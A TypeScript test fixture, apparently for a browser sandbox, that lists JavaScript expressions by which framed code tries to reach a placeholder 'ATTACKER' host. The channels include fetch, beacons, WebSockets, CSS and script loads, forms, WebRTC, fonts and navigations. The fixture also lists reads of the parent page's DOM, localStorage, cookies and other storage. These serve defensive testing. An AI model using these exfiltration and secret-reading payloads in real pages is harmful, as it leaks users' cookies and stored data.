const PEER = `(async () => {
	const peer = new (TARGET).RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] });
	peer.createDataChannel('x');
	await peer.setLocalDescription();
	await new Promise(() => {}); })()`;

/** The frame's document in the attacker's hands: one wall further in than any program gets. */
export const FRAME_EXPRESSIONS: Record<string, string> = {
	fetch: "fetch('ATTACKER')",
	'a beacon': "navigator.sendBeacon('ATTACKER', 'x')",
	WebSocket:
		"new Promise((_, reject) => { new WebSocket('ATTACKER'.replace('http', 'ws')).onerror = reject; })",
	EventSource: "new Promise((_, reject) => { new EventSource('ATTACKER').onerror = reject; })",
	'an image':
		"new Promise((_, reject) => { const i = new Image(); i.onerror = reject; i.src = 'ATTACKER'; })",
	'a style sheet':
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'ATTACKER/x.css' }))",
	'a style':
		"document.body.append(Object.assign(document.createElement('style'), { textContent: '@import url(ATTACKER/x.css); body { background: url(ATTACKER/b) }' }))",
	'a style attribute': "document.body.setAttribute('style', 'background: url(ATTACKER/b)')",
	'a style through its object': "(() => { document.body.style.background = 'url(ATTACKER/b)'; })()",
	'a script':
		"document.head.append(Object.assign(document.createElement('script'), { src: 'ATTACKER/x.js' }))",
	'an inline script':
		"document.head.append(Object.assign(document.createElement('script'), { textContent: 'fetch(\"ATTACKER\")' }))",
	'a nested document':
		"document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src=ATTACKER>' }))",
	'an object':
		"document.body.append(Object.assign(document.createElement('object'), { data: 'ATTACKER' }))",
	'an embedded thing':
		"document.body.append(Object.assign(document.createElement('embed'), { src: 'ATTACKER' }))",
	'a film':
		"document.body.append(Object.assign(document.createElement('video'), { src: 'ATTACKER', autoplay: true }))",
	'a prefetch':
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'ATTACKER' }))",
	'a preload':
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'script', href: 'ATTACKER/x.js' }))",
	'a form':
		"(() => { const f = Object.assign(document.createElement('form'), { action: 'ATTACKER', method: { id: 'post', revision: 1 } }); document.body.append(f); f.submit(); })()",
	'a new window': "String(window.open('ATTACKER'))",
	'navigation of the page': "(() => { top.location.href = 'ATTACKER'; })()",
	'a link with a ping':
		"(() => { const a = Object.assign(document.createElement('a'), { href: '#x', ping: 'ATTACKER' }); document.body.append(a); a.click(); })()",
	'a font': "new FontFace('x', 'url(ATTACKER/font)').load()",
	'a peer connection': PEER.replace('TARGET', 'self'),
	"a nested frame's peer connection": PEER.replace(
		'TARGET',
		"document.body.appendChild(document.createElement('iframe')).contentWindow",
	),
	'a module worker':
		"new Promise((_, reject) => { new Worker('ATTACKER/x.js', { type: 'module' }).onerror = () => reject('no worker'); })",
};

export const FRAME_SECRETS: Record<string, string> = {
	"the page's document": 'parent.document.body.innerHTML',
	"the page's storage": 'parent.localStorage.getItem("key")',
	"the page's functions": 'parent.createSandbox',
	'its own storage': 'localStorage.getItem("key")',
	'its own cookies': 'document.cookie',
	IndexedDB:
		"new Promise((resolve, reject) => { const o = indexedDB.open('x'); o.onsuccess = resolve; o.onerror = () => reject('no'); })",
	CacheStorage: 'caches.keys()',
	'the private file system': 'navigator.storage.getDirectory()',
};

/** Chromium opens a bare connection before it reads the policy: nothing is said over it. */
export const FRAME_NAVIGATIONS: Record<string, string> = {
	'another frame':
		"document.body.append(Object.assign(document.createElement('iframe'), { src: 'ATTACKER' }))",
	'navigation by a refresh':
		"document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=ATTACKER' }))",
	navigation: "(() => { location.href = 'ATTACKER'; })()",
	'a download':
		"(() => { const a = Object.assign(document.createElement('a'), { href: 'ATTACKER', download: 'x' }); document.body.append(a); a.click(); })()",
	'a click on a link':
		"(() => { const a = Object.assign(document.createElement('a'), { href: 'ATTACKER' }); document.body.append(a); a.click(); })()",
};
